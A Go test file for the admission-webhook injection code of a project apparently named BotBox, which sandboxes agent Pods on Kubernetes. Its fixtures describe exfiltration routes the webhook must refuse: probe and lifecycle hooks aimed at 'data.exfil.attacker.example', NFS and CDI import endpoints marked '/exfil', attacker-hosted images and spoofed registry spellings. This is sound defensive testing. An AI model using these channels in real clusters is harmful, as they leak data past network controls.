package inject

import (
	"bytes"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/botbox/botbox/internal/netfilter"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/intstr"
)

// The cases of docs/../admission-2026-12-01.md (ids in the names) where
// Kubernetes acts for the Pod: capabilities the runtime grants, requests
// the node makes, images and volumes it fetches.

func ephemeral(name string, sc *corev1.SecurityContext) corev1.EphemeralContainer {
	return corev1.EphemeralContainer{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: name, Image: "busybox", SecurityContext: sc}}
}

// TestInjectDropsAllCapabilities: every app, user init, user sidecar and
// ephemeral container leaves inject dropping ALL (H1: the runtime's
// default set holds NET_RAW), and CheckPod (what /validate runs) refuses a
// Pod where one does not.
func TestInjectDropsAllCapabilities(t *testing.T) {
	always := corev1.ContainerRestartPolicyAlways
	for _, tc := range []struct {
		name   string
		mutate func(s *corev1.PodSpec)
	}{
		{"A07 no capabilities field", func(s *corev1.PodSpec) {}},
		{"A08 drop CHOWN only", func(s *corev1.PodSpec) {
			s.Containers[0].SecurityContext = &corev1.SecurityContext{Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"CHOWN"}}}
		}},
		{"A25 user native sidecar", func(s *corev1.PodSpec) {
			s.InitContainers = []corev1.Container{{Name: "side", Image: "busybox", RestartPolicy: &always}}
		}},
		{"user init container", func(s *corev1.PodSpec) {
			s.InitContainers = []corev1.Container{{Name: "setup", Image: "busybox"}}
		}},
		{"D04 ephemeral UID 1000 without drop", func(s *corev1.PodSpec) {
			s.EphemeralContainers = []corev1.EphemeralContainer{ephemeral("debugger", &corev1.SecurityContext{RunAsUser: new(int64(1000))})}
		}},
		{"root app", func(s *corev1.PodSpec) {
			s.Containers[0].SecurityContext = &corev1.SecurityContext{RunAsUser: new(int64(0))}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			meta, spec := testPod()
			tc.mutate(spec)
			if err := Pod(meta, spec, DefaultOptions()); err != nil {
				t.Fatalf("Pod() = %v", err)
			}
			v := newPodView(spec, nil, nil, Admission)
			for _, c := range v.containers() {
				if !dropsAll(c) {
					t.Errorf("container %q does not drop ALL after inject: %+v", c.Name, c.SecurityContext)
				}
			}
			// /validate's view: the same Pod with one container not
			// dropping ALL is refused.
			for _, c := range []*corev1.Container{&spec.Containers[0], lastInit(spec), lastEphemeral(spec)} {
				if c == nil || c.Name == NameBotBox || c.Name == NameInit {
					continue
				}
				saved := c.SecurityContext.Capabilities.Drop
				c.SecurityContext.Capabilities.Drop = []corev1.Capability{"CHOWN"}
				errs := CheckPod(spec, DefaultOptions().Layout(), nil, Admission)
				if !strings.Contains(errors.Join(errs...).Error(), `container "`+c.Name+`" must drop ALL capabilities`) {
					t.Errorf("CheckPod with %q dropping only CHOWN: %v", c.Name, errs)
				}
				c.SecurityContext.Capabilities.Drop = saved
			}
		})
	}
}

func lastInit(s *corev1.PodSpec) *corev1.Container {
	if len(s.InitContainers) == 0 {
		return nil
	}
	return &s.InitContainers[len(s.InitContainers)-1]
}

func lastEphemeral(s *corev1.PodSpec) *corev1.Container {
	if len(s.EphemeralContainers) == 0 {
		return nil
	}
	return (*corev1.Container)(&s.EphemeralContainers[len(s.EphemeralContainers)-1].EphemeralContainerCommon)
}

// TestPodSecurityBaseline: Kubernetes' own baseline evaluator (the real
// library) refuses, with its reason, what it forbids; probe and lifecycle
// host fields are also refused by BotBox's own check; the iptables-init
// container (root, NET_ADMIN) is left out, so a plain Pod passes.
func TestPodSecurityBaseline(t *testing.T) {
	httpHost := func(host string) *corev1.Probe {
		return &corev1.Probe{ProbeHandler: corev1.ProbeHandler{HTTPGet: &corev1.HTTPGetAction{Host: host, Path: "/x?d=data", Port: intstr.FromInt32(80)}}, PeriodSeconds: 1}
	}
	for _, tc := range []struct {
		name   string
		mutate func(m *metav1.ObjectMeta, s *corev1.PodSpec)
		want   []string
	}{
		{"B11 readiness httpGet host", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.Containers[0].ReadinessProbe = httpHost("data.exfil.attacker.example")
		}, []string{"probe or lifecycle host", `readiness probe httpGet.host "data.exfil.attacker.example"`}},
		{"B12 postStart/preStop httpGet host", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			h := &corev1.LifecycleHandler{HTTPGet: &corev1.HTTPGetAction{Host: "203.0.113.7", Port: intstr.FromInt32(80)}}
			s.Containers[0].Lifecycle = &corev1.Lifecycle{PostStart: h, PreStop: h}
		}, []string{`postStart hook httpGet.host "203.0.113.7"`, `preStop hook httpGet.host "203.0.113.7"`}},
		{"B13 tcpSocket host", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.Containers[0].LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{TCPSocket: &corev1.TCPSocketAction{Host: "d.attacker.example", Port: intstr.FromInt32(53)}}}
		}, []string{`liveness probe tcpSocket.host "d.attacker.example"`}},
		{"lifecycle on BotBox's port", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.Containers[0].Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{HTTPGet: &corev1.HTTPGetAction{Port: intstr.FromInt32(MetricsPort)}}}
		}, []string{"postStart hook targets port 9090"}},
		{"B09 hostPort", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.Containers[0].Ports = []corev1.ContainerPort{{ContainerPort: 9090, HostPort: 9090}}
		}, []string{"hostPort"}},
		{"B06 unsafe sysctl", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.SecurityContext.Sysctls = []corev1.Sysctl{{Name: "net.ipv4.conf.all.route_localnet", Value: "1"}}
		}, []string{"forbidden sysctls"}},
		{"A19 seccomp Unconfined", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
		}, []string{"seccompProfile"}},
		{"A19 appArmor Unconfined", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.SecurityContext.AppArmorProfile = &corev1.AppArmorProfile{Type: corev1.AppArmorProfileTypeUnconfined}
		}, []string{"AppArmor profile"}},
		{"B23 legacy AppArmor annotation for botbox", func(m *metav1.ObjectMeta, _ *corev1.PodSpec) {
			m.Annotations = map[string]string{"container.apparmor.security.beta.kubernetes.io/botbox": "unconfined"}
		}, []string{"AppArmor"}},
		{"A21 seLinux spc_t", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.SecurityContext.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"}
		}, []string{"seLinuxOptions"}},
		{"procMount Unmasked in the host user namespace", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.Containers[0].SecurityContext = &corev1.SecurityContext{ProcMount: new(corev1.UnmaskedProcMount)}
		}, []string{"procMount"}},
		{"A27 hostProcess", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.SecurityContext.WindowsOptions = &corev1.WindowsSecurityContextOptions{HostProcess: new(true)}
		}, []string{"hostProcess"}},
		// Pod Security is evaluated with the ephemeral containers, and the
		// legacy AppArmor annotations are read whichever container they
		// name, iptables-init (left out of the evaluation) included. (The
		// legacy seccomp annotations are read by no kubelet BotBox runs
		// on: native sidecars need 1.29, kubelets ignore them since 1.27.)
		{"ephemeral container seccomp Unconfined", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.EphemeralContainers = []corev1.EphemeralContainer{ephemeral("debugger", &corev1.SecurityContext{RunAsUser: new(int64(1000)),
				SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}})}
		}, []string{"seccompProfile", `"debugger"`}},
		{"ephemeral container procMount Unmasked", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.EphemeralContainers = []corev1.EphemeralContainer{ephemeral("debugger", &corev1.SecurityContext{RunAsUser: new(int64(1000)), ProcMount: new(corev1.UnmaskedProcMount)})}
		}, []string{"procMount"}},
		{"ephemeral container appArmor Unconfined", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.EphemeralContainers = []corev1.EphemeralContainer{ephemeral("debugger", &corev1.SecurityContext{RunAsUser: new(int64(1000)),
				AppArmorProfile: &corev1.AppArmorProfile{Type: corev1.AppArmorProfileTypeUnconfined}})}
		}, []string{"AppArmor profile"}},
		{"ephemeral container hostProcess", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			s.EphemeralContainers = []corev1.EphemeralContainer{ephemeral("debugger", &corev1.SecurityContext{RunAsUser: new(int64(1000)),
				WindowsOptions: &corev1.WindowsSecurityContextOptions{HostProcess: new(true)}})}
		}, []string{"hostProcess"}},
		{"legacy AppArmor annotation for iptables-init", func(m *metav1.ObjectMeta, _ *corev1.PodSpec) {
			m.Annotations = map[string]string{"container.apparmor.security.beta.kubernetes.io/iptables-init": "unconfined"}
		}, []string{"AppArmor"}},
		{"user sidecar startup probe host", func(_ *metav1.ObjectMeta, s *corev1.PodSpec) {
			always := corev1.ContainerRestartPolicyAlways
			s.InitContainers = []corev1.Container{{Name: "side", Image: "busybox", RestartPolicy: &always, StartupProbe: httpHost("203.0.113.8")}}
		}, []string{`container "side": startup probe httpGet.host "203.0.113.8"`}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			meta, spec := testPod()
			tc.mutate(meta, spec)
			err := Pod(meta, spec, DefaultOptions())
			var refused *RefusedError
			if !errors.As(err, &refused) {
				t.Fatalf("Pod() = %v, want a refusal", err)
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not contain %q", err, w)
				}
			}
		})
	}
	// Pod-level Localhost seccomp is baseline; BotBox's containers pin
	// RuntimeDefault on themselves, so the agent's profile never applies
	// to them.
	meta, spec := testPod()
	spec.SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeLocalhost, LocalhostProfile: new("agent.json")}
	if err := Pod(meta, spec, DefaultOptions()); err != nil {
		t.Fatalf("Localhost seccomp refused: %v", err)
	}
	for _, c := range spec.InitContainers {
		if sp := c.SecurityContext.SeccompProfile; sp == nil || sp.Type != corev1.SeccompProfileTypeRuntimeDefault {
			t.Errorf("BotBox container %q seccompProfile %+v, want RuntimeDefault", c.Name, sp)
		}
	}
}

// TestNodeFetches: images from registries outside the allowlist (any
// container, BotBox's own image excepted), inline CSI volumes and
// populated ephemeral claims outside --allowed-csi-drivers, and a CSI
// nodePublishSecretRef naming BotBox's Secret (always) are refused.
func TestNodeFetches(t *testing.T) {
	withRegistries := func(o *Options) { o.AllowedImageRegistries = []string{"registry.example:5000", "docker.io"} }
	csiVol := func(driver string, secret string) corev1.Volume {
		v := corev1.Volume{Name: "v", VolumeSource: corev1.VolumeSource{CSI: &corev1.CSIVolumeSource{Driver: driver, VolumeAttributes: map[string]string{"server": "203.0.113.9", "share": "/exfil"}}}}
		if secret != "" {
			v.CSI.NodePublishSecretRef = &corev1.LocalObjectReference{Name: secret}
		}
		return v
	}
	ephemeralVol := func(group *string, kind string) corev1.Volume {
		return corev1.Volume{Name: "e", VolumeSource: corev1.VolumeSource{Ephemeral: &corev1.EphemeralVolumeSource{VolumeClaimTemplate: &corev1.PersistentVolumeClaimTemplate{
			Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
				DataSourceRef: &corev1.TypedObjectReference{APIGroup: group, Kind: kind, Name: "src"}}}}}}
	}
	for _, tc := range []struct {
		name   string
		opts   func(o *Options)
		mutate func(s *corev1.PodSpec)
		want   string // "" = admitted
	}{
		{"B15 app image from another registry", withRegistries, func(s *corev1.PodSpec) {
			s.Containers[0].Image = "registry.attacker.example/data/chunk-0001:data"
		}, `image "registry.attacker.example/data/chunk-0001:data" is pulled from registry registry.attacker.example`},
		{"D10 ephemeral image", withRegistries, func(s *corev1.PodSpec) {
			s.EphemeralContainers = []corev1.EphemeralContainer{ephemeral("debugger", &corev1.SecurityContext{RunAsUser: new(int64(1000))})}
			s.EphemeralContainers[0].Image = "ghcr.io/attacker/x"
		}, `container "debugger": image "ghcr.io/attacker/x" is pulled from registry ghcr.io`},
		{"user init image", withRegistries, func(s *corev1.PodSpec) {
			s.InitContainers = []corev1.Container{{Name: "setup", Image: "quay.io/x/y@sha256:" + strings.Repeat("a", 64)}}
		}, "registry quay.io"},
		{"host with another port", withRegistries, func(s *corev1.PodSpec) { s.Containers[0].Image = "registry.example:5001/x" }, "registry registry.example:5001"},
		{"docker.io short name", withRegistries, func(s *corev1.PodSpec) { s.Containers[0].Image = "busybox:1.36" }, ""},
		{"listed host with port", withRegistries, func(s *corev1.PodSpec) { s.Containers[0].Image = "registry.example:5000/team/app:v1" }, ""},
		{"invalid reference", withRegistries, func(s *corev1.PodSpec) { s.Containers[0].Image = "Busy Box" }, "invalid"},
		{"no allowlist: any registry", func(*Options) {}, func(s *corev1.PodSpec) { s.Containers[0].Image = "registry.attacker.example/x" }, ""},
		{"BotBox's image always allowed", func(o *Options) {
			withRegistries(o)
			o.Image = "botbox.example/botbox:1"
		}, func(s *corev1.PodSpec) {}, ""},
		{"C08 inline CSI nfs", func(*Options) {}, func(s *corev1.PodSpec) { s.Volumes = []corev1.Volume{csiVol("nfs.csi.k8s.io", "")} }, `inline CSI driver "nfs.csi.k8s.io" is not in --allowed-csi-drivers`},
		{"inline CSI listed", func(o *Options) { o.AllowedCSIDrivers = []string{"secrets-store.csi.k8s.io"} }, func(s *corev1.PodSpec) {
			s.Volumes = []corev1.Volume{csiVol("secrets-store.csi.k8s.io", "other")}
		}, ""},
		{"inline CSI driver in another case than listed", func(o *Options) { o.AllowedCSIDrivers = []string{"secrets-store.csi.k8s.io"} }, func(s *corev1.PodSpec) {
			s.Volumes = []corev1.Volume{csiVol("Secrets-Store.csi.k8s.io", "")}
		}, `inline CSI driver "Secrets-Store.csi.k8s.io" is not in --allowed-csi-drivers`},
		{"C09 nodePublishSecretRef to BotBox's Secret, driver listed", func(o *Options) { o.AllowedCSIDrivers = []string{"smb.csi.k8s.io"} }, func(s *corev1.PodSpec) {
			s.Volumes = []corev1.Volume{csiVol("smb.csi.k8s.io", DefaultSecret)}
		}, `reads Secret "botbox-secrets"`},
		{"C10 ephemeral claim with a populator", func(*Options) {}, func(s *corev1.PodSpec) {
			s.Volumes = []corev1.Volume{ephemeralVol(new("cdi.kubevirt.io"), "VolumeImportSource")}
		}, "data source VolumeImportSource.cdi.kubevirt.io is not in --allowed-csi-drivers"},
		{"populator listed", func(o *Options) { o.AllowedCSIDrivers = []string{"VolumeImportSource.cdi.kubevirt.io"} }, func(s *corev1.PodSpec) {
			s.Volumes = []corev1.Volume{ephemeralVol(new("cdi.kubevirt.io"), "VolumeImportSource")}
		}, ""},
		{"PVC clone", func(*Options) {}, func(s *corev1.PodSpec) { s.Volumes = []corev1.Volume{ephemeralVol(nil, "PersistentVolumeClaim")} }, ""},
		{"ephemeral claim with CDI's import annotation", func(o *Options) { o.AllowedCSIDrivers = []string{"VolumeImportSource.cdi.kubevirt.io"} }, func(s *corev1.PodSpec) {
			v := ephemeralVol(nil, "PersistentVolumeClaim")
			v.Ephemeral.VolumeClaimTemplate.Annotations = map[string]string{"cdi.kubevirt.io/storage.import.endpoint": "http://203.0.113.9/exfil?d=data"}
			s.Volumes = []corev1.Volume{v}
		}, "ephemeral claim annotation cdi.kubevirt.io/storage.import.endpoint"},
		{"ephemeral claim with labels only", func(*Options) {}, func(s *corev1.PodSpec) {
			v := ephemeralVol(nil, "PersistentVolumeClaim")
			v.Ephemeral.VolumeClaimTemplate.Labels = map[string]string{"app": "agent"}
			s.Volumes = []corev1.Volume{v}
		}, ""},
		{"snapshot restore", func(*Options) {}, func(s *corev1.PodSpec) {
			s.Volumes = []corev1.Volume{ephemeralVol(new("snapshot.storage.k8s.io"), "VolumeSnapshot")}
		}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			meta, spec := testPod()
			tc.mutate(spec)
			o := DefaultOptions()
			tc.opts(&o)
			err := Pod(meta, spec, o)
			switch {
			case tc.want == "" && err != nil:
				t.Fatalf("Pod() = %v, want admitted", err)
			case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
				t.Fatalf("Pod() = %v, want an error containing %q", err, tc.want)
			}
		})
	}
}

func TestImageRegistry(t *testing.T) {
	dig := "@sha256:" + strings.Repeat("0", 64)
	for _, tc := range []struct{ image, want string }{
		{"busybox", "docker.io"},
		{"busybox:1.36", "docker.io"},
		{"library/busybox", "docker.io"},
		{"attacker/x:tag", "docker.io"},
		{"busybox" + dig, "docker.io"},
		{"busybox:1" + dig, "docker.io"},
		{"docker.io/library/busybox", "docker.io"},
		{"index.docker.io/x/y", "docker.io"},
		{"ghcr.io/a/b:c", "ghcr.io"},
		{"GHCR.io/a/b", "ghcr.io"},
		{"localhost/botbox:dev", "localhost"},
		{"localhost:5000/x", "localhost:5000"},
		{"registry.example:5000/x/y/z:t", "registry.example:5000"},
		{"Upper/x", "upper"},
		{"[fd00::1]:5000/x", "[fd00::1]:5000"},
		{"", "!"},
		{"x y", "!"},
		{"ghcr.io/A/b", "!"},
		{"ghcr.io/a/b:", "!"},
		{"ghcr.io/a/b@sha256:xyz", "!"},
		{"ghcr.io//b", "!"},
		{"-bad.example/x", "!"},
		{"host:port/x", "!"},
		// Spellings of a registry an allowlist could be read through: a
		// port, userinfo, a trailing dot, an empty port, a line break.
		{"docker.io:443/library/busybox", "docker.io:443"},
		{"registry-1.docker.io/library/busybox", "docker.io"},
		{"user@ghcr.io/a/b", "!"},
		{"ghcr.io@evil.example/a", "!"},
		{"ghcr.io./a/b", "!"},
		{"ghcr.io:/a/b", "!"},
		{"ghcr.io/a/b\n", "!"},
		{"ghcr.io/a/b:t\nevil.example/x", "!"},
		{"http://ghcr.io/a/b", "!"},
	} {
		got, err := ImageRegistry(tc.image)
		switch {
		case tc.want == "!" && err == nil:
			t.Errorf("ImageRegistry(%q) = %q, want an error", tc.image, got)
		case tc.want != "!" && (err != nil || got != tc.want):
			t.Errorf("ImageRegistry(%q) = %q, %v; want %q", tc.image, got, err, tc.want)
		}
	}
}

// FuzzImageRegistry: never panics; an accepted reference's registry is a
// valid host, and the reference starts with it unless it is docker.io's.
func FuzzImageRegistry(f *testing.F) {
	for _, s := range []string{"busybox", "ghcr.io/a/b:c", "localhost:5000/x@sha256:" + strings.Repeat("a", 64), "[::1]:1/x", "Upper/x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, image string) {
		host, err := ImageRegistry(image)
		if err != nil {
			return
		}
		if !validRegistryHost(host) {
			t.Fatalf("ImageRegistry(%q) = %q, not a host", image, host)
		}
		if host != DefaultRegistry && !strings.HasPrefix(strings.ToLower(image), host+"/") {
			t.Fatalf("ImageRegistry(%q) = %q, which the reference does not start with", image, host)
		}
	})
}

// TestDefaultOptionsContain: a Pod injected with the defaults gets the DNS
// guard and the IPv6 rules, and `botbox netfilter print` of its init
// environment has no port-53 path (udp or tcp, IPv4 or IPv6) except the
// redirect to the guard. With --dns-guard=false the same print has the
// open "dport 53 return", so the check can fail.
func TestDefaultOptionsContain(t *testing.T) {
	open := regexp.MustCompile(`(?m)^\s*(udp|tcp) dport 53 (return|accept)`)
	// The redirect matches the Pod's own sources only (the guard is no
	// reflector, TestDNSGuardSpoofedSourceNoReflection).
	guardRedirect := regexp.MustCompile(`(?m)^\s*(udp|tcp) dport 53 fib saddr type local redirect to :8053$`)
	for _, tc := range []struct {
		name     string
		opts     func(*Options)
		wantOpen bool
	}{
		{"defaults", func(*Options) {}, false},
		{"guard off, dns servers", func(o *Options) { o.DNSGuard, o.DNSServers = false, "10.96.0.10,fd00::a" }, false},
		{"guard off", func(o *Options) { o.DNSGuard = false }, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			o := DefaultOptions()
			tc.opts(&o)
			meta, spec := testPod()
			if err := Pod(meta, spec, o); err != nil {
				t.Fatal(err)
			}
			v := newPodView(spec, nil, nil, Admission)
			if v.netfilterErr != nil {
				t.Fatal(v.netfilterErr)
			}
			var out bytes.Buffer
			if err := netfilter.PrintNFTables(v.netfilter, []netfilter.Family{netfilter.IPv4, netfilter.IPv6}, &out); err != nil {
				t.Fatal(err)
			}
			rules := out.String()
			if got := open.MatchString(rules); got != tc.wantOpen {
				t.Fatalf("open port-53 path = %v, want %v:\n%s", got, tc.wantOpen, rules)
			}
			if tc.wantOpen || !o.DNSGuard {
				return
			}
			for _, fam := range []string{"table ip botbox {", "table ip6 botbox {"} {
				if !strings.Contains(rules, fam) {
					t.Errorf("no %s: IPv6 rules off by default", fam)
				}
			}
			if n := len(guardRedirect.FindAllString(rules, -1)); n != 4 {
				t.Errorf("%d redirects of port 53 to the guard, want 4 (udp, tcp × ip, ip6):\n%s", n, rules)
			}
			var sidecarPort string
			for _, e := range v.botbox.Env {
				if e.Name == netfilter.EnvDNSGuardPort {
					sidecarPort = e.Value
				}
			}
			if sidecarPort != "8053" {
				t.Errorf("botbox sidecar %s = %q, want 8053", netfilter.EnvDNSGuardPort, sidecarPort)
			}
		})
	}
}

// TestTokenMountKept: the token mount the ServiceAccount admission plugin
// adds to BotBox's containers after /mutate survives re-injection in its
// exact form only; any other extra mount is removed.
func TestTokenMountKept(t *testing.T) {
	tokenVol := corev1.Volume{Name: "kube-api-access-x7k2p", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
		Sources: []corev1.VolumeProjection{
			{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{ExpirationSeconds: new(int64(3607)), Path: "token"}},
			{ConfigMap: &corev1.ConfigMapProjection{LocalObjectReference: corev1.LocalObjectReference{Name: "kube-root-ca.crt"}, Items: []corev1.KeyToPath{{Key: "ca.crt", Path: "ca.crt"}}}},
			{DownwardAPI: &corev1.DownwardAPIProjection{Items: []corev1.DownwardAPIVolumeFile{{Path: "namespace", FieldRef: &corev1.ObjectFieldSelector{APIVersion: "v1", FieldPath: "metadata.namespace"}}}}},
		}, DefaultMode: new(int32(0o644))}}}
	mount := corev1.VolumeMount{Name: tokenVol.Name, ReadOnly: true, MountPath: ServiceAccountTokenDir}
	for _, tc := range []struct {
		name  string
		vol   func(v *corev1.Volume)
		mount func(m *corev1.VolumeMount)
		kept  bool
	}{
		{"plugin form", func(*corev1.Volume) {}, func(*corev1.VolumeMount) {}, true},
		{"writable", func(*corev1.Volume) {}, func(m *corev1.VolumeMount) { m.ReadOnly = false }, false},
		{"other path", func(*corev1.Volume) {}, func(m *corev1.VolumeMount) { m.MountPath = SecretsDir }, false},
		{"audience", func(v *corev1.Volume) { v.Projected.Sources[0].ServiceAccountToken.Audience = "sts.amazonaws.com" }, func(*corev1.VolumeMount) {}, false},
		{"a Secret projected in", func(v *corev1.Volume) {
			v.Projected.Sources = append(v.Projected.Sources, corev1.VolumeProjection{Secret: &corev1.SecretProjection{LocalObjectReference: corev1.LocalObjectReference{Name: "x"}}})
		}, func(*corev1.VolumeMount) {}, false},
		{"other name", func(v *corev1.Volume) { v.Name = "creds" }, func(m *corev1.VolumeMount) { m.Name = "creds" }, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			o := DefaultOptions()
			meta, spec := testPod()
			if err := Pod(meta, spec, o); err != nil {
				t.Fatal(err)
			}
			v, m := tokenVol, mount
			v.VolumeSource = *tokenVol.VolumeSource.DeepCopy()
			tc.vol(&v)
			tc.mount(&m)
			spec.Volumes = append(spec.Volumes, v)
			for i := range spec.InitContainers {
				spec.InitContainers[i].VolumeMounts = append(spec.InitContainers[i].VolumeMounts, m)
			}
			spec.Containers[0].VolumeMounts = append(spec.Containers[0].VolumeMounts, m)
			if err := Pod(meta, spec, o); err != nil {
				t.Fatal(err)
			}
			for _, c := range spec.InitContainers {
				has := false
				for _, vm := range c.VolumeMounts {
					has = has || vm.MountPath == m.MountPath && vm.Name == m.Name
				}
				if has != tc.kept {
					t.Errorf("container %q keeps the mount = %v, want %v", c.Name, has, tc.kept)
				}
			}
		})
	}
}

func TestWeaknesses(t *testing.T) {
	for _, tc := range []struct {
		name string
		opts func(*Options)
		want []string
	}{
		{"defaults", func(*Options) {}, []string{"no --allowed-image-registries"}},
		{"hardened", func(o *Options) { o.AllowedImageRegistries = []string{"registry.example"} }, nil},
		{"guard off", func(o *Options) { o.AllowedImageRegistries, o.DNSGuard = []string{"r.example"}, false }, []string{"port 53 of any host"}},
		{"guard off, servers", func(o *Options) {
			o.AllowedImageRegistries, o.DNSGuard, o.DNSServers = []string{"r.example"}, false, "10.96.0.10"
		}, nil},
		{"ipv6 off", func(o *Options) { o.AllowedImageRegistries, o.IPv6 = []string{"r.example"}, false }, []string{"IPv6"}},
	} {
		o := DefaultOptions()
		tc.opts(&o)
		got := o.Weaknesses()
		if len(got) != len(tc.want) {
			t.Errorf("%s: %q, want %d warnings", tc.name, got, len(tc.want))
			continue
		}
		for i, w := range tc.want {
			if !strings.Contains(got[i], w) {
				t.Errorf("%s: warning %q does not contain %q", tc.name, got[i], w)
			}
		}
	}
}

// TestDropAllSpellings: only capabilities.drop "ALL" spelt exactly counts
// as dropping all. containerd and CRI-O read "CAP_ALL" as the unknown
// capability CAP_CAP_ALL, so a root app dropping only that keeps the
// runtime's default set (NET_RAW, SETUID: it can become the exempt UID);
// inject adds "ALL" after every other spelling, and CheckPod (what
// /validate runs) refuses a Pod still spelling it otherwise.
func TestDropAllSpellings(t *testing.T) {
	for _, drop := range [][]corev1.Capability{{"CAP_ALL"}, {"cap_all"}, {"all"}, {"All"}, {" ALL"}, {"ALL "}, {"ALL,"}, {"NET_RAW", "CAP_ALL"}} {
		t.Run(fmt.Sprint(drop), func(t *testing.T) {
			meta, spec := testPod()
			spec.Containers[0].SecurityContext = &corev1.SecurityContext{RunAsUser: new(int64(0)), Capabilities: &corev1.Capabilities{Drop: drop}}
			spec.EphemeralContainers = []corev1.EphemeralContainer{ephemeral("debugger", &corev1.SecurityContext{RunAsUser: new(int64(1000)), Capabilities: &corev1.Capabilities{Drop: drop}})}
			if err := Pod(meta, spec, DefaultOptions()); err != nil {
				t.Fatalf("Pod() = %v", err)
			}
			for _, c := range newPodView(spec, nil, nil, Admission).containers() {
				if !slices.Contains(c.SecurityContext.Capabilities.Drop, "ALL") {
					t.Errorf("container %q drops %v after inject, without \"ALL\"", c.Name, c.SecurityContext.Capabilities.Drop)
				}
			}
			for _, c := range []*corev1.Container{&spec.Containers[0], lastEphemeral(spec)} {
				c.SecurityContext.Capabilities.Drop = drop
			}
			msg := fmt.Sprint(errors.Join(CheckPod(spec, DefaultOptions().Layout(), nil, Admission)...))
			for _, want := range []string{`container "app" must drop ALL`, `container "app" runs as root without capabilities.drop [ALL]`, `container "debugger" must drop ALL`} {
				if !strings.Contains(msg, want) {
					t.Errorf("CheckPod with drop %q: %q lacks %q", drop, msg, want)
				}
			}
		})
	}
}
